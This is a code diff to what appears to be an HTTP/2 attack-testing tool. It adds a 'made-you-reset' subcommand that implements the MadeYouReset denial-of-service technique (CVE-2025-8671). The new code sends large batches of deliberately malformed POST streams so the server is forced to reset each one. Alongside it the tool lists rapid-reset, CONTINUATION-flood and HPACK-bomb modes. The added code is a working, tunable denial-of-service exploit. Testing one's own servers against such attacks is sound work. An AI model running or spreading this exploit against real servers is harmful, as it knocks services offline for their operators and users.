@@ -348,6 +348,31 @@ def cmd_rapid_reset(args):
     c.report(sent)
 
 
+def cmd_made_you_reset(args):
+    """MadeYouReset (CVE-2025-8671): like rapid reset, but the client never resets a
+    stream itself: each request announces a content-length of 1 and sends 2 bytes, a
+    malformed request (RFC 9113 §8.1.1) the server must reset, after it started.  Stops at
+    --count streams, --seconds, a GOAWAY or the close."""
+    c = connect(args)
+    sent = 0
+    end = time.monotonic() + args.seconds
+    while sent < args.count and time.monotonic() < end and not c.closed and c.goaway is None:
+        frames = []
+        for _ in range(min(args.batch, args.count - sent)):
+            sid = c.new_stream()
+            frames.append(c.headers_frame(sid, c.request_headers(
+                "POST", args.path, [("content-length", "1")]), end_stream=False))
+            d = DataFrame(sid)
+            d.data = b"xx"
+            d.flags.add("END_STREAM")
+            frames.append(d)
+            sent += 1
+        c.send(*frames)
+        c.pump(0.001)
+    c.pump(args.wait, lambda: c.closed)
+    c.report(sent)
+
+
 def cmd_continuation(args):
     """CONTINUATION flood: a HEADERS frame without END_HEADERS, then CONTINUATION frames
     that never end the block, each carrying one more small header field."""
@@ -628,6 +653,7 @@ def main():
         return s
 
     add("rapid-reset", cmd_rapid_reset, count=20000, batch=100)
+    add("made-you-reset", cmd_made_you_reset, count=20000, batch=100)
     add("continuation", cmd_continuation, count=100000, batch=1000)
     s = add("hpack-bomb", cmd_hpack_bomb)
     s.add_argument("--field-size", type=int, default=4000)
